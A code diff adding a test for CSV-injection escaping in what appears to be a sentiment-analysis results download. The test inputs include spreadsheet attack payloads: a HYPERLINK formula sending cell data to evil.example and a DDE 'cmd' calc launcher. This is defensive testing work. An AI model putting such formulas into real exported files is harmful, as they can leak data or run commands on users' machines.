@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 
 import pandas as pd
@@ -105,6 +106,24 @@ def test_results_table_keeps_file_rows_and_the_files_own_columns_and_round_trips
     assert back["label"].tolist() == ["positive", "negative", "neutral"]
     assert back["confidence"].astype(float).round(6).tolist() == [0.85, 0.8, 0.6]
     assert back["model_version"].tolist() == ["run-1"] * 3
+
+
+def test_a_download_shows_formulas_as_text_and_leaves_numbers_and_other_texts_as_they_are():
+    """CSV injection: a text a spreadsheet would run (= + - @ tab CR first, OWASP's list) gets an apostrophe first;
+    a negative rating stays a number. The texts come from the uploaded file, or from anyone who called the API. A CR
+    inside a text is quoted, so a spreadsheet keeps it in its row."""
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@anonymous thanks!", "-2+3+cmd|' /C calc'!A0",
+             "+1 555 0100", "\t=1+1", "\r=1+1", "great day = good day\rsame row", "'=already text", "-0.5"]
+    frame = pd.DataFrame({"text": texts, "rating": ["-0.5", "-1e3", "+2", "0", "3", "4", "5", "6", "-"]})
+    predictions = [{"label": "neutral", "probabilities": {"negative": 0.25, "neutral": 0.5, "positive": 0.25}}] * 9
+    table = results_table(frame, list(range(1, 10)), predictions, "=run")
+    rows = list(csv.DictReader(io.StringIO(as_csv(table).decode(), newline="")))
+    assert [row["text"] for row in rows] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'@anonymous thanks!", "'-2+3+cmd|' /C calc'!A0",
+        "'+1 555 0100", "'\t=1+1", "'\r=1+1", "great day = good day\rsame row", "'=already text", "-0.5"]
+    assert [row["rating"] for row in rows] == ["-0.5", "-1e3", "+2", "0", "3", "4", "5", "6", "'-"]
+    assert {row["model_version"] for row in rows} == {"'=run"} and {row["confidence"] for row in rows} == {"0.5"}
+    assert table["text"].tolist() == texts  # the table on screen is the file's own
 
 
 def test_a_results_download_uploaded_again_keeps_every_column_under_a_name_of_its_own():
